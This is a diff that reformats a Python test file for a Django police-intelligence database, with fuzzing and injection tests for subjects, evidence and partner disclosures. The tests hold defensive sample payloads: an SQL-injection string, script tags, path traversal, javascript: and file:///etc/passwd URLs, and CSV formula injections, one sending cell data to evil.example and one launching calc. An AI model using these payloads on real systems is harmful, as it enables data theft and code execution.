@@ -74,12 +74,39 @@ HOSTILE = settings(
 # Strategies
 
 ODD_PIECES = [
-    "\u202e", "\u202d", "\u200f", "\u200e",  # bidirectional overrides and marks (RTL tricks)
-    "\u200b", "\u200c", "\u200d", "\ufeff", "\u2060",  # zero-width characters and the BOM
-    "\u2028", "\u2029", "\r\n", "\t", "\x0b", "\x1b[31m",  # separators and control characters
+    "\u202e",
+    "\u202d",
+    "\u200f",
+    "\u200e",  # bidirectional overrides and marks (RTL tricks)
+    "\u200b",
+    "\u200c",
+    "\u200d",
+    "\ufeff",
+    "\u2060",  # zero-width characters and the BOM
+    "\u2028",
+    "\u2029",
+    "\r\n",
+    "\t",
+    "\x0b",
+    "\x1b[31m",  # separators and control characters
     "\x00",  # NUL: PostgreSQL cannot store it in text
-    "😀", "👨‍👩‍👧", "🏳️‍🌈", "𝕏", "e\u0301", "ﷺ", "\U0010fffd", "Ǆ", "ß", "İ",  # astral, combining, case quirks
-    "'; DROP TABLE matrix_subject; --", "%s", "{0}", "%(x)s", "\\", "../../", "<script>alert(1)</script>",
+    "😀",
+    "👨‍👩‍👧",
+    "🏳️‍🌈",
+    "𝕏",
+    "e\u0301",
+    "ﷺ",
+    "\U0010fffd",
+    "Ǆ",
+    "ß",
+    "İ",  # astral, combining, case quirks
+    "'; DROP TABLE matrix_subject; --",
+    "%s",
+    "{0}",
+    "%(x)s",
+    "\\",
+    "../../",
+    "<script>alert(1)</script>",
 ]
 odd_text = st.lists(st.sampled_from(ODD_PIECES), min_size=1, max_size=8).map("".join)
 any_text = st.one_of(
@@ -122,8 +149,10 @@ def storable(max_size=None, min_size=1):
 
 def reason_text(min_length=10):
     """A reason long enough to be accepted, made of odd text (and sometimes very long)."""
-    return st.tuples(st.just("Synthetic: "), storable(min_size=0)).map("".join).filter(
-        lambda text: len(text.strip()) >= min_length
+    return (
+        st.tuples(st.just("Synthetic: "), storable(min_size=0))
+        .map("".join)
+        .filter(lambda text: len(text.strip()) >= min_length)
     )
 
 
@@ -270,9 +299,13 @@ def check_text_round_trip(model, pk, values: dict) -> None:
 def test_create_subject_with_random_values(world, data):
     mode = data.draw(st.booleans(), label="storable")
     strategies = subject_fields(world, mode)
-    fields = data.draw(st.fixed_dictionaries(strategies) if mode else st.fixed_dictionaries(
-        {"borough": strategies["borough"]}, optional={k: v for k, v in strategies.items() if k != "borough"}
-    ))
+    fields = data.draw(
+        st.fixed_dictionaries(strategies)
+        if mode
+        else st.fixed_dictionaries(
+            {"borough": strategies["borough"]}, optional={k: v for k, v in strategies.items() if k != "borough"}
+        )
+    )
     if not mode:
         fields.update(data.draw(PROTECTED))
     reason = data.draw(storable(min_size=0) if mode else hostile(storable(min_size=0)), label="reason")
@@ -336,9 +369,9 @@ SOCIAL_MEDIA_URLS = [
     "https://",
 ]
 # Web addresses with odd but legal paths.
-storable_urls = st.text(
-    alphabet=st.characters(exclude_categories=("Zs", "Zl", "Zp", "Cc", "Cs")), max_size=60
-).map(lambda path: f"https://social.example.test/{path}")
+storable_urls = st.text(alphabet=st.characters(exclude_categories=("Zs", "Zl", "Zp", "Cc", "Cs")), max_size=60).map(
+    lambda path: f"https://social.example.test/{path}"
+)
 
 
 @given(data=st.data())
@@ -351,9 +384,9 @@ def test_add_evidence_with_random_values(world, data):
     valid = {
         "summary": storable(),
         "information_date": recent,
-        "source_type": st.just("social_media") if social else st.sampled_from(
-            [c.value for c in SourceType if c != SourceType.SOCIAL_MEDIA]
-        ),
+        "source_type": st.just("social_media")
+        if social
+        else st.sampled_from([c.value for c in SourceType if c != SourceType.SOCIAL_MEDIA]),
         "source_reference": storable(100),
         "source_evaluation": choices_of(SourceEvaluation),
         "intelligence_assessment": choices_of(IntelligenceAssessment),
@@ -379,13 +412,21 @@ def test_add_evidence_with_random_values(world, data):
             "captured_on": hostile(recent, also=[any_date]),
         }
         required = {name: strategy for name, strategy in strategies.items() if name not in optional}
-        fields = data.draw(st.fixed_dictionaries(required, optional={**optional, **{
-            name: strategy for name, strategy in strategies.items() if name in optional
-        }}))
-        fields.update(data.draw(st.dictionaries(
-            st.sampled_from(["verification", "verified_by", "withdrawn_at", "created_by"]),
-            st.one_of(any_text, wrong_type), max_size=1,
-        )))
+        fields = data.draw(
+            st.fixed_dictionaries(
+                required,
+                optional={**optional, **{name: strategy for name, strategy in strategies.items() if name in optional}},
+            )
+        )
+        fields.update(
+            data.draw(
+                st.dictionaries(
+                    st.sampled_from(["verification", "verified_by", "withdrawn_at", "created_by"]),
+                    st.one_of(any_text, wrong_type),
+                    max_size=1,
+                )
+            )
+        )
         subject = world[data.draw(st.sampled_from(["draft", "approved", "removed"]))]
         actor = world[data.draw(st.sampled_from(["officer", "outsider"]))]
         reason = data.draw(hostile(storable()))
@@ -418,18 +459,23 @@ def agreement():
 def test_request_disclosure_with_random_values(world, agreement, data):
     mode = data.draw(st.booleans(), label="storable")
     valid_fields = st.lists(st.sampled_from(agreement.shareable_fields), min_size=1, max_size=4)
-    valid_expiry = st.one_of(st.none(), st.dates(
-        min_value=timezone.localdate() + timedelta(days=1), max_value=agreement.valid_to
-    ))
+    valid_expiry = st.one_of(
+        st.none(), st.dates(min_value=timezone.localdate() + timedelta(days=1), max_value=agreement.valid_to)
+    )
     if mode:
         purpose, fields, expiry = data.draw(reason_text()), data.draw(valid_fields), data.draw(valid_expiry)
         lawful_basis, subject, actor = basis("cda-1998-s115"), world["approved"], world["officer"]
     else:
         purpose = data.draw(hostile(reason_text()))
-        fields = data.draw(hostile(valid_fields, also=[
-            st.lists(st.one_of(st.sampled_from(ALL_FIELDS), any_text, wrong_type), max_size=4),
-            st.sets(st.sampled_from(ALL_FIELDS), max_size=3),
-        ]))
+        fields = data.draw(
+            hostile(
+                valid_fields,
+                also=[
+                    st.lists(st.one_of(st.sampled_from(ALL_FIELDS), any_text, wrong_type), max_size=4),
+                    st.sets(st.sampled_from(ALL_FIELDS), max_size=3),
+                ],
+            )
+        )
         expiry = data.draw(hostile(valid_expiry, also=[st.dates(), any_date]))
         lawful_basis = basis(data.draw(st.sampled_from(["cda-1998-s115", "dpa-2018-sch8-para4", "pcsc-2022-s16"])))
         subject = world[data.draw(st.sampled_from(["approved", "draft", "removed"]))]
@@ -444,8 +490,13 @@ def test_request_disclosure_with_random_values(world, agreement, data):
 
     attempt(
         lambda: sharing.request_disclosure(
-            acting_user=actor, subject=subject, agreement=agreement, lawful_basis=lawful_basis,
-            purpose=purpose, fields=fields, expiry=expiry,
+            acting_user=actor,
+            subject=subject,
+            agreement=agreement,
+            lawful_basis=lawful_basis,
+            purpose=purpose,
+            fields=fields,
+            expiry=expiry,
         ),
         requested,
         expect_success=mode,
@@ -488,8 +539,12 @@ def decisions(world, agreement, submitted):
 
     def request():
         return sharing.request_disclosure(
-            acting_user=officer, subject=subject, agreement=agreement, lawful_basis=basis("cda-1998-s115"),
-            purpose="Synthetic: joint safeguarding plan agreed at panel", fields=["name"],
+            acting_user=officer,
+            subject=subject,
+            agreement=agreement,
+            lawful_basis=basis("cda-1998-s115"),
+            purpose="Synthetic: joint safeguarding plan agreed at panel",
+            fields=["name"],
         )
 
     return {
@@ -577,35 +632,71 @@ def hostile_records(officer, supervisor, any_criterion):
     hackney = Borough.objects.get(code=HACKNEY)
     dpo = make_user("dpo", username="dpo.hostile")
     subject = services.create_subject(
-        acting_user=officer, borough=hackney, family_name=payload("FAMILY"), given_names=payload("GIVEN"),
-        aliases=payload("ALIASONE"), date_of_birth=date(2003, 2, 1), gender="male",
-        ethnicity="not_stated", classification="suspected",
+        acting_user=officer,
+        borough=hackney,
+        family_name=payload("FAMILY"),
+        given_names=payload("GIVEN"),
+        aliases=payload("ALIASONE"),
+        date_of_birth=date(2003, 2, 1),
+        gender="male",
+        ethnicity="not_stated",
+        classification="suspected",
     )
     subject = services.update_subject(
-        acting_user=officer, subject=subject, expected_version=subject.version,
-        changes={"aliases": f"{payload('ALIASONE')}\n{payload('ALIASTWO')}"}, reason=payload("EDITREASON"),
+        acting_user=officer,
+        subject=subject,
+        expected_version=subject.version,
+        changes={"aliases": f"{payload('ALIASONE')}\n{payload('ALIASTWO')}"},
+        reason=payload("EDITREASON"),
     )
     common = {
-        "information_date": timezone.localdate() - timedelta(days=2), "source_evaluation": "1",
-        "intelligence_assessment": "A", "nature": "fact",
+        "information_date": timezone.localdate() - timedelta(days=2),
+        "source_evaluation": "1",
+        "intelligence_assessment": "A",
+        "nature": "fact",
     }
     evidence_services.add_evidence(
-        acting_user=officer, subject=subject, summary=payload("SUMMARYP"), source_type="police_record",
-        source_reference=payload("SOURCEP"), handling_code="P", **common,
+        acting_user=officer,
+        subject=subject,
+        summary=payload("SUMMARYP"),
+        source_type="police_record",
+        source_reference=payload("SOURCEP"),
+        handling_code="P",
+        **common,
     )
     evidence_services.add_evidence(
-        acting_user=officer, subject=subject, summary=payload("SUMMARYC"), source_type="police_record",
-        source_reference="CAD-HOSTILE-C", handling_code="C", handling_conditions=payload("CONDITIONS"), **common,
+        acting_user=officer,
+        subject=subject,
+        summary=payload("SUMMARYC"),
+        source_type="police_record",
+        source_reference="CAD-HOSTILE-C",
+        handling_code="C",
+        handling_conditions=payload("CONDITIONS"),
+        **common,
     )
     unverified = evidence_services.add_evidence(
-        acting_user=officer, subject=subject, summary=payload("SUMMARYSM"), source_type="social_media",
-        source_reference="OSINT-HOSTILE-1", handling_code="P", social_media_url=EVIL_URL,
-        social_media_platform=payload("PLAT"), captured_on=timezone.localdate() - timedelta(days=2), **common,
+        acting_user=officer,
+        subject=subject,
+        summary=payload("SUMMARYSM"),
+        source_type="social_media",
+        source_reference="OSINT-HOSTILE-1",
+        handling_code="P",
+        social_media_url=EVIL_URL,
+        social_media_platform=payload("PLAT"),
+        captured_on=timezone.localdate() - timedelta(days=2),
+        **common,
     )
     to_verify = evidence_services.add_evidence(
-        acting_user=officer, subject=subject, summary="Synthetic second post", source_type="social_media",
-        source_reference="OSINT-HOSTILE-2", handling_code="P", social_media_url="https://social.example.test/2",
-        social_media_platform="ExampleNet", captured_on=timezone.localdate() - timedelta(days=2), **common,
+        acting_user=officer,
+        subject=subject,
+        summary="Synthetic second post",
+        source_type="social_media",
+        source_reference="OSINT-HOSTILE-2",
+        handling_code="P",
+        social_media_url="https://social.example.test/2",
+        social_media_platform="ExampleNet",
+        captured_on=timezone.localdate() - timedelta(days=2),
+        **common,
     )
     evidence_services.verify_social_media(acting_user=supervisor, evidence=to_verify, method=payload("METHOD"))
     subject = workflow.submit_subject(acting_user=officer, subject=subject)
@@ -617,8 +708,12 @@ def hostile_records(officer, supervisor, any_criterion):
 
     def request(marker, fields=("name", "aliases", "evidence")):
         return sharing.request_disclosure(
-            acting_user=officer, subject=subject, agreement=agreement, lawful_basis=basis("cda-1998-s115"),
-            purpose=payload(marker), fields=list(fields),
+            acting_user=officer,
+            subject=subject,
+            agreement=agreement,
+            lawful_basis=basis("cda-1998-s115"),
+            purpose=payload(marker),
+            fields=list(fields),
         )
 
     live = sharing.approve_disclosure(acting_user=supervisor, disclosure=request("PURPOSELIVE"))
@@ -633,24 +728,47 @@ def hostile_records(officer, supervisor, any_criterion):
     workflow.restrict_processing(acting_user=dpo, subject=subject, reason=payload("RESTRICTION"))
 
     rejected = services.create_subject(
-        acting_user=officer, borough=hackney, family_name=payload("REJFAMILY"), given_names="Synthetic",
-        date_of_birth=date(2002, 3, 4), gender="female", ethnicity="not_stated", classification="suspected",
+        acting_user=officer,
+        borough=hackney,
+        family_name=payload("REJFAMILY"),
+        given_names="Synthetic",
+        date_of_birth=date(2002, 3, 4),
+        gender="female",
+        ethnicity="not_stated",
+        classification="suspected",
     )
     withdrawn = evidence_services.add_evidence(
-        acting_user=officer, subject=rejected, summary=payload("REJSUMMARY"), source_type="police_record",
-        source_reference="CAD-HOSTILE-R", handling_code="P", **common,
+        acting_user=officer,
+        subject=rejected,
+        summary=payload("REJSUMMARY"),
+        source_type="police_record",
+        source_reference="CAD-HOSTILE-R",
+        handling_code="P",
+        **common,
     )
     evidence_services.add_evidence(
-        acting_user=officer, subject=rejected, summary="Synthetic arrest record", source_type="police_record",
-        source_reference="CAD-HOSTILE-R2", handling_code="P", **common,
+        acting_user=officer,
+        subject=rejected,
+        summary="Synthetic arrest record",
+        source_type="police_record",
+        source_reference="CAD-HOSTILE-R2",
+        handling_code="P",
+        **common,
     )
     rejected = workflow.submit_subject(acting_user=officer, subject=rejected)
     rejected = workflow.reject_subject(acting_user=supervisor, subject=rejected, reason=payload("REJECTION"))
     evidence_services.withdraw_evidence(acting_user=officer, evidence=withdrawn, reason=payload("WITHDRAWAL"))
 
     return {
-        "subject": subject, "rejected": rejected, "withdrawn": withdrawn, "unverified": unverified,
-        "partner": partner, "live": live, "refused": refused, "revoked": revoked, "dpo": dpo,
+        "subject": subject,
+        "rejected": rejected,
+        "withdrawn": withdrawn,
+        "unverified": unverified,
+        "partner": partner,
+        "live": live,
+        "refused": refused,
+        "revoked": revoked,
+        "dpo": dpo,
     }
 
 
@@ -663,10 +781,24 @@ def test_script_in_every_field_is_inert_on_staff_pages(client, officer, supervis
     subject, rejected = r["subject"], r["rejected"]
     pages = [
         # (who, url, markers that must be shown escaped)
-        (supervisor, f"/subjects/{subject.uuid}/", [
-            *NAME_AND_ALIASES, "SUMMARYP", "SOURCEP", "SUMMARYC", "CONDITIONS", "SUMMARYSM", "PLAT", "METHOD",
-            "REVIEW", "RESTRICTION", "EDITREASON", "PARTNER",
-        ]),
+        (
+            supervisor,
+            f"/subjects/{subject.uuid}/",
+            [
+                *NAME_AND_ALIASES,
+                "SUMMARYP",
+                "SOURCEP",
+                "SUMMARYC",
+                "CONDITIONS",
+                "SUMMARYSM",
+                "PLAT",
+                "METHOD",
+                "REVIEW",
+                "RESTRICTION",
+                "EDITREASON",
+                "PARTNER",
+            ],
+        ),
         (officer, f"/subjects/{subject.uuid}/", NAME_AND_ALIASES),
         (officer, f"/subjects/{rejected.uuid}/", ["REJFAMILY", "REJSUMMARY", "REJECTION", "WITHDRAWAL"]),
         (officer, "/subjects/", ["FAMILY", "GIVEN", "REJFAMILY"]),
@@ -729,21 +861,39 @@ def test_the_csv_export_is_a_download_never_a_page(client, hostile_records):
 
 
 FORMULAS = [
-    '=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1",
+    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1",
 ]
 
 
 def test_csv_export_cells_never_start_a_spreadsheet_formula(client, officer, supervisor, any_criterion):
     """CSV/formula injection (OWASP): a cell the recipient's spreadsheet would run as a formula is prefixed with '."""
     subject = services.create_subject(
-        acting_user=officer, borough=Borough.objects.get(code=HACKNEY), family_name=FORMULAS[0],
-        given_names=FORMULAS[1], aliases="\n".join(FORMULAS[2:]), date_of_birth=date(2003, 2, 1), gender="male",
-        ethnicity="not_stated", classification="suspected",
+        acting_user=officer,
+        borough=Borough.objects.get(code=HACKNEY),
+        family_name=FORMULAS[0],
+        given_names=FORMULAS[1],
+        aliases="\n".join(FORMULAS[2:]),
+        date_of_birth=date(2003, 2, 1),
+        gender="male",
+        ethnicity="not_stated",
+        classification="suspected",
     )
     evidence_services.add_evidence(
-        acting_user=officer, subject=subject, summary=FORMULAS[3], information_date=timezone.localdate(),
-        source_type="police_record", source_reference="CAD-FORMULA", source_evaluation="1",
-        intelligence_assessment="A", handling_code="P", nature="fact",
+        acting_user=officer,
+        subject=subject,
+        summary=FORMULAS[3],
+        information_date=timezone.localdate(),
+        source_type="police_record",
+        source_reference="CAD-FORMULA",
+        source_evaluation="1",
+        intelligence_assessment="A",
+        handling_code="P",
+        nature="fact",
     )
     subject = workflow.submit_subject(acting_user=officer, subject=subject)
     subject = workflow.approve_subject(acting_user=supervisor, subject=subject)
@@ -752,8 +902,12 @@ def test_csv_export_cells_never_start_a_spreadsheet_formula(client, officer, sup
     live = sharing.approve_disclosure(
         acting_user=supervisor,
         disclosure=sharing.request_disclosure(
-            acting_user=officer, subject=subject, agreement=agreement, lawful_basis=basis("cda-1998-s115"),
-            purpose="-Synthetic: joint safeguarding plan", fields=["name", "aliases", "evidence"],
+            acting_user=officer,
+            subject=subject,
+            agreement=agreement,
+            lawful_basis=basis("cda-1998-s115"),
+            purpose="-Synthetic: joint safeguarding plan",
+            fields=["name", "aliases", "evidence"],
         ),
     )
     client.force_login(make_partner_user(partner))
@@ -770,28 +924,50 @@ def test_csv_export_cells_never_start_a_spreadsheet_formula(client, officer, sup
 
 @pytest.mark.parametrize(
     "url",
-    ["javascript:alert(1)", "JAVASCRIPT:alert(1)", " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
-     "vbscript:msgbox(1)", "file:///etc/passwd"],
+    [
+        "javascript:alert(1)",
+        "JAVASCRIPT:alert(1)",
+        " javascript:alert(1)",
+        "data:text/html,<script>alert(1)</script>",
+        "vbscript:msgbox(1)",
+        "file:///etc/passwd",
+    ],
 )
 def test_a_non_web_social_media_address_is_refused_by_the_service_and_the_form(client, officer, make_subject, url):
     subject = make_subject("draft")
     before = written_by_api()
     with pytest.raises(ValidationError) as refused:
         evidence_services.add_evidence(
-            acting_user=officer, subject=subject, summary="Synthetic post", information_date=timezone.localdate(),
-            source_type="social_media", source_reference="OSINT-URL", source_evaluation="2",
-            intelligence_assessment="C", handling_code="P", nature="assessment", social_media_url=url,
-            social_media_platform="ExampleNet", captured_on=timezone.localdate(),
+            acting_user=officer,
+            subject=subject,
+            summary="Synthetic post",
+            information_date=timezone.localdate(),
+            source_type="social_media",
+            source_reference="OSINT-URL",
+            source_evaluation="2",
+            intelligence_assessment="C",
+            handling_code="P",
+            nature="assessment",
+            social_media_url=url,
+            social_media_platform="ExampleNet",
+            captured_on=timezone.localdate(),
         )
     assert "social_media_url" in refused.value.message_dict
     client.force_login(officer)
     response = client.post(
         f"/subjects/{subject.uuid}/evidence/new/",
         {
-            "summary": "Synthetic post", "information_date": timezone.localdate().isoformat(), "nature": "assessment",
-            "source_type": "social_media", "source_reference": "OSINT-URL", "source_evaluation": "2",
-            "intelligence_assessment": "C", "handling_code": "P", "social_media_url": url,
-            "social_media_platform": "ExampleNet", "captured_on": timezone.localdate().isoformat(),
+            "summary": "Synthetic post",
+            "information_date": timezone.localdate().isoformat(),
+            "nature": "assessment",
+            "source_type": "social_media",
+            "source_reference": "OSINT-URL",
+            "source_evaluation": "2",
+            "intelligence_assessment": "C",
+            "handling_code": "P",
+            "social_media_url": url,
+            "social_media_platform": "ExampleNet",
+            "captured_on": timezone.localdate().isoformat(),
         },
     )
     assert response.status_code == 200 and "social_media_url" in response.context["form"].errors
@@ -803,8 +979,13 @@ def test_a_non_web_social_media_address_is_refused_by_the_service_and_the_form(c
 # Malformed and oversize API bodies
 
 VALID_BODY = {
-    "borough": HACKNEY, "family_name": "Testperson", "given_names": "Alpha", "date_of_birth": "2004-03-02",
-    "gender": "male", "ethnicity": "not_stated", "classification": "suspected",
+    "borough": HACKNEY,
+    "family_name": "Testperson",
+    "given_names": "Alpha",
+    "date_of_birth": "2004-03-02",
+    "gender": "male",
+    "ethnicity": "not_stated",
+    "classification": "suspected",
 }
 TWO_MB = 2 * 1024 * 1024
 
@@ -817,8 +998,17 @@ MALFORMED = {
     "JSON number": ("42", "application/json"),
     "JSON null": ("null", "application/json"),
     "empty body": ("", "application/json"),
-    "nested objects": (json.dumps({**VALID_BODY, "family_name": {"a": {"b": [1, {"c": None}]}},
-                                   "borough": {"code": HACKNEY}, "date_of_birth": ["2004-03-02"]}), "application/json"),
+    "nested objects": (
+        json.dumps(
+            {
+                **VALID_BODY,
+                "family_name": {"a": {"b": [1, {"c": None}]}},
+                "borough": {"code": HACKNEY},
+                "date_of_birth": ["2004-03-02"],
+            }
+        ),
+        "application/json",
+    ),
     "deeply nested arrays": ("[" * 100_000 + "]" * 100_000, "application/json"),
     "deeply nested objects": ('{"a":' * 50_000 + "1" + "}" * 50_000, "application/json"),
     "2 MB string": (json.dumps({**VALID_BODY, "family_name": "x" * TWO_MB}), "application/json"),
@@ -828,10 +1018,32 @@ MALFORMED = {
     "NaN": (json.dumps(VALID_BODY)[:-1] + ', "version": NaN}', "application/json"),
     "NUL in a name": (json.dumps({**VALID_BODY, "family_name": "Test\x00person"}), "application/json"),
     "lone surrogate": (json.dumps(VALID_BODY).replace("Testperson", "\\ud800"), "application/json"),
-    "wrong types": (json.dumps({**VALID_BODY, "family_name": 5, "also_victim": "perhaps", "gender": ["male"],
-                                "date_of_birth": 20040302, "borough": None}), "application/json"),
-    "read-only fields": (json.dumps({**VALID_BODY, "status": "approved", "version": 9, "harm_score": "99",
-                                     "reference": "GM-2026-999999", "family_name": ""}), "application/json"),
+    "wrong types": (
+        json.dumps(
+            {
+                **VALID_BODY,
+                "family_name": 5,
+                "also_victim": "perhaps",
+                "gender": ["male"],
+                "date_of_birth": 20040302,
+                "borough": None,
+            }
+        ),
+        "application/json",
+    ),
+    "read-only fields": (
+        json.dumps(
+            {
+                **VALID_BODY,
+                "status": "approved",
+                "version": 9,
+                "harm_score": "99",
+                "reference": "GM-2026-999999",
+                "family_name": "",
+            }
+        ),
+        "application/json",
+    ),
     "plain text": ("family_name=Testperson", "text/plain"),
     "XML": ("<subject><family_name>Testperson</family_name></subject>", "application/xml"),
     "no content type": (json.dumps(VALID_BODY)[:-1], ""),
@@ -842,7 +1054,9 @@ MALFORMED = {
 
 def written_by_api() -> tuple:
     return (
-        Subject.objects.count(), Subject.history.model.objects.count(), Evidence.objects.count(),
+        Subject.objects.count(),
+        Subject.history.model.objects.count(),
+        Evidence.objects.count(),
         AccessEvent.objects.filter(action__in=["collect", "alter", "disclose", "erase"]).count(),
     )
 
@@ -894,7 +1108,10 @@ def test_long_reasons_fit_the_history_column_from_edit_to_erasure(officer, super
     subject = make_subject("draft")
     typed = "Corrected the spelling of the family name after checking the PNC record with the officer in charge"
     subject = services.update_subject(
-        acting_user=officer, subject=subject, expected_version=subject.version, changes={"given_names": "Beta"},
+        acting_user=officer,
+        subject=subject,
+        expected_version=subject.version,
+        changes={"given_names": "Beta"},
         reason=f"{typed}: see the note of the panel meeting for the details of the check",
     )
     subject = workflow.submit_subject(acting_user=officer, subject=subject)
@@ -902,8 +1119,12 @@ def test_long_reasons_fit_the_history_column_from_edit_to_erasure(officer, super
     sharing.approve_disclosure(
         acting_user=supervisor,
         disclosure=sharing.request_disclosure(
-            acting_user=officer, subject=subject, agreement=AgreementFactory(), lawful_basis=basis("cda-1998-s115"),
-            purpose="Synthetic: joint safeguarding plan agreed at panel", fields=["name"],
+            acting_user=officer,
+            subject=subject,
+            agreement=AgreementFactory(),
+            lawful_basis=basis("cda-1998-s115"),
+            purpose="Synthetic: joint safeguarding plan agreed at panel",
+            fields=["name"],
         ),
     )
     subject = workflow.remove_subject(
